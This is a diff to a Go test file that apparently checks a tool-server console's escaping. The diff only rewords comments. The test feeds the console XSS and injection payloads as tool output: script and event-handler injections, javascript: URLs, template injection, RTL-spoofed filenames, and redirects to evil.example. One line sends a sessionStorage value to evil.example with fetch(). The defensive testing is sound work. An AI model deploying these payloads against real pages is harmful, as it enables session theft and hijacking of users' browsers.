@@ -11,20 +11,20 @@ import (
 	"github.com/toolsrv/toolsrv/wasmtools/schema"
 )
 
-// Words that become something else where a page takes them for markup, an address or a name of its own.
+// Words that become something else if a page takes them for markup, an address or a name of its own.
 var markup = strings.Join([]string{
 	`<script>window.owned = 1</script>`, `<img src=x onerror="window.owned = 1">`, `<svg onload="window.owned = 1"><a href="javascript:window.owned=1">x</a></svg>`,
 	`<iframe srcdoc="<script>top.owned = 1</script>"></iframe>`, `javascript:window.owned=1`, `" onmouseover="window.owned = 1`, `${window.owned = 1}`, `</textarea><style>*{display:none}</style>`,
 	"\u202Egnp.exe\u200B\u2066\uFEFF", "<!--", "]]>", `{{constructor.constructor('window.owned = 1')()}}`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`,
 }, " ")
 
-// A hostile tool says what it likes, wherever a tool says something.
+// A hostile is a tool with hostile text everywhere where a tool can have text.
 type hostile struct {
 	result []byte
 	err    error
 }
 
-// Call answers with it.
+// Call answers with the text.
 func (h hostile) Call(_ context.Context, call *wasmtools.Call) ([]byte, error) {
 	call.Progress(1, 2, markup)
 	return h.result, h.err
@@ -51,7 +51,7 @@ func must[T any](v T, err error) T {
 	return v
 }
 
-// TestConsoleHostile looks at tools that attack who looks at them, and calls them.
+// TestConsoleHostile shows and calls tools that attack whoever looks at them.
 func TestConsoleHostile(t *testing.T) {
 	t.Parallel()
 	document := "<html><body onload='window.owned = 1'><script>fetch('https://evil.example/?' + sessionStorage.getItem(Object.keys(sessionStorage)[0]))</script>" + markup
@@ -86,7 +86,7 @@ func TestConsoleHostile(t *testing.T) {
 	}
 }
 
-// intact fails if what a tool said has become more than a text.
+// intact fails if a tool's text has become more than text.
 func (p *page) intact(where string) {
 	p.t.Helper()
 	if eval[bool](p, "window.owned !== undefined || ({}).owned !== undefined") {
